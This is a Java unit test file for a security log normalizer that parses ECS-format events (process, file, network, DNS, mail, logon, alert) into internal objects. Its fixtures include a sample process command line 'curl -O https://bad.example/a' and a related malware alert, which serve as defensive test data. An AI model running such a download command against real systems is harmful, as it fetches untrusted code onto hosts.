package io.clicktrail.normalizer.normalized;

import static org.assertj.core.api.Assertions.assertThat;

import io.clicktrail.event.Event;
import io.clicktrail.event.EventKind;
import io.clicktrail.event.EventOutcome;
import io.clicktrail.normalizer.event.EventJson;
import io.clicktrail.normalizer.parse.TestNormalizer;
import io.clicktrail.normalizer.raw.Reason;
import io.clicktrail.normalizer.zeek.ZeekFixtures;
import org.junit.jupiter.api.Test;

class EcsDocumentJsonTest {

    private static final String HOST =
            "\"host\":{\"name\":\"lx-3.corp.example\",\"id\":\"h-3\",\"ip\":[\"10.1.2.3\",\"fe80::1\"],"
                    + "\"os\":{\"type\":\"linux\"}},\"user\":{\"name\":\"ada\",\"id\":\"1000\"}";
    private static final String PROCESS =
            "\"process\":{\"pid\":77,\"entity_id\":\"e-77\",\"executable\":\"/usr/bin/curl\","
                    + "\"command_line\":\"curl -O https://bad.example/a\",\"parent\":{\"pid\":7,"
                    + "\"executable\":\"/bin/bash\"}}";

    private final TestNormalizer reader = new TestNormalizer();

    @Test
    void readsAProcess() {
        Event event = reader.event(document("process", "start", HOST + "," + PROCESS));

        assertThat(new EventJson().write(event))
                .isEqualTo("{\"@timestamp\":\"2026-03-02T10:00:05.731Z\",\"event\":{\"id\":\"" + event.getEventId()
                        + "\",\"action\":\"process_start\",\"dataset\":\"ecs.process\",\"hash\":\""
                        + event.getSource().getSha256()
                        + "\",\"outcome\":\"success\"},\"source\":{\"topic\":\"clicktrail.raw.logs\","
                        + "\"partition\":1,\"offset\":42,\"index\":0},"
                        + "\"host\":{\"name\":\"lx-3.corp.example\","
                        + "\"hostname\":\"lx-3.corp.example\",\"domain\":\"corp.example\","
                        + "\"id\":\"h-3\",\"ip\":[\"10.1.2.3\",\"fe80::1\"],"
                        + "\"os\":{\"type\":\"linux\"}},"
                        + "\"user\":{\"name\":\"ada\",\"id\":\"1000\"},"
                        + "\"process\":{\"entity_id\":\"e-77\",\"pid\":77,"
                        + "\"executable\":\"/usr/bin/curl\",\"name\":\"curl\","
                        + "\"command_line\":\"curl -O https://bad.example/a\","
                        + "\"parent\":{\"pid\":7,\"executable\":\"/bin/bash\"}}}");
    }

    @Test
    void readsAFileAConnectionARequestADnsQueryAMailALogonAndAnAlert() {
        Event file = reader.event(document(
                "file",
                "creation",
                HOST + "," + PROCESS
                        + ",\"file\":{\"path\":\"/tmp/a\",\"hash\":{\"md5\":\"d41d8cd98f00b204e980099"
                        + "8ecf8427e\"},\"origin_url\":\"https://bad.example/a\"}"));
        Event connection = reader.event(document(
                "network",
                "connection",
                HOST
                        + ",\"source\":{\"ip\":\"10.1.2.17\",\"port\":50123},"
                        + "\"destination\":{\"ip\":\"203.0.113.9\",\"port\":443},"
                        + "\"network\":{\"transport\":\"tcp\",\"direction\":\"egress\"}"));
        Event request = reader.event(document(
                "web",
                "access",
                HOST
                        + ",\"source\":{\"ip\":\"10.1.2.17\"},\"url\":{\"original\":\"https://bad.exa"
                        + "mple/a\"},\"http\":{\"request\":{\"method\":\"GET\"},"
                        + "\"response\":{\"status_code\":200}}"));
        Event dns = reader.event(document(
                "network",
                "protocol",
                "\"client\":{\"ip\":\"10.1.2.17\"},\"dns\":{\"question\":{\"name\":\"bad.example\","
                        + "\"type\":\"A\"},\"response_code\":\"NOERROR\",\"resolved_ip\":[\"203.0.113.9\"]}"));
        Event mail = reader.event(document(
                "email",
                "info",
                "\"email\":{\"from\":{\"address\":[\"x@bad.example\"]},"
                        + "\"to\":{\"address\":[\"ada@corp.example\"]},\"subject\":\"Invoice\"}"));
        Event logon = reader.event(document("authentication", "start", HOST + ",\"source\":{\"ip\":\"10.9.9.9\"}"));
        Event alert = reader.event(document(
                "malware",
                "info",
                HOST + "," + PROCESS
                        + ",\"rule\":{\"name\":\"Bad download\",\"id\":\"r-1\"},"
                        + "\"threat\":{\"technique\":{\"id\":[\"T1204.001\"]}}"));

        assertThat(file.getKind()).isEqualTo(EventKind.FILE_WRITE);
        assertThat(file.getFile().getOriginUrl()).isEqualTo("https://bad.example/a");
        assertThat(file.getProcess().getPid()).isEqualTo(77);
        assertThat(connection.getClient().getIp()).isEqualTo("10.1.2.17");
        assertThat(connection.getHost()).isNull();
        assertThat(request.getDestination().getDomain()).isEqualTo("bad.example");
        assertThat(dns.getDns().getResolvedIp()).containsExactly("203.0.113.9");
        assertThat(mail.getEmail().getFrom()).isEqualTo("x@bad.example");
        assertThat(logon.getLogon().getIp()).isEqualTo("10.9.9.9");
        assertThat(alert.getSecurityAlert().getTechnique()).containsExactly("T1204.001");
    }

    @Test
    void takesTheHostOfAConnectionWhereItsProcessIsNamed() {
        Event event = reader.event(document(
                "network", "start", HOST + "," + PROCESS + ",\"destination\":{\"ip\":\"203.0.113.9\",\"port\":443}"));

        assertThat(event.getHost().getName()).isEqualTo("lx-3.corp.example");
        assertThat(event.getProcess().getEntityId()).isEqualTo("e-77");
    }

    @Test
    void callsWhatWasDeniedAFailure() {
        assertThat(reader.event(document(
                                "network",
                                "denied",
                                "\"source\":{\"ip\":\"10.1.2.17\"},\"destination\":{\"ip\":\"203.0.113.9\"}"))
                        .getOutcome())
                .isEqualTo(EventOutcome.FAILURE);
    }

    @Test
    void readsDottedKeys() {
        Event event = reader.event("{\"@timestamp\":\"2026-03-02T10:00:05.731Z\",\"event.category\":\"process\","
                + "\"event.type\":\"start\",\"process.pid\":7,\"process.executable\":\"/bin/x\","
                + "\"host.name\":\"lx-3\"}");

        assertThat(event.getProcess().getExecutable()).isEqualTo("/bin/x");
        assertThat(event.getHost().getName()).isEqualTo("lx-3");
    }

    @Test
    void leavesADocumentWithoutCategoryToItsEnvelope() {
        Event event = reader.event("{\"@timestamp\":\"2026-03-02T10:00:59Z\",\"ecs\":{\"version\":\"8.0.0\"},"
                + "\"agent\":{\"type\":\"filebeat\"},\"event\":{\"dataset\":\"zeek.connection\"},"
                + "\"message\":\""
                + ZeekFixtures.CONN.replace("\"", "\\\"") + "\"}");

        assertThat(event.getSource().getDataset()).isEqualTo("zeek.conn");
    }

    @Test
    void ignoresOtherCategoriesAndTypes() {
        assertThat(reader.ignored(document("configuration", "change", HOST)).dataset())
                .isEqualTo("ecs.other");
        assertThat(reader.ignored(document("process", "info", HOST)).dataset()).isEqualTo("ecs.process");
        assertThat(reader.ignored(document("file", "deletion", HOST)).dataset()).isEqualTo("ecs.file");
    }

    @Test
    void rejectsWhatSaysNothing() {
        assertThat(reader.rejected(document("process", "start", HOST)).reason()).isEqualTo(Reason.MISSING_FIELD);
        assertThat(reader.rejected(document("network", "connection", HOST)).reason())
                .isEqualTo(Reason.MISSING_FIELD);
    }

    private static String document(String category, String type, String fields) {
        return "{\"@timestamp\":\"2026-03-02T10:00:05.731Z\",\"ecs\":{\"version\":\"8.11.0\"},"
                + "\"event\":{\"kind\":\"event\",\"category\":[\""
                + category + "\"],\"type\":[\"" + type + "\"],\"outcome\":\"success\"}," + fields + "}";
    }
}
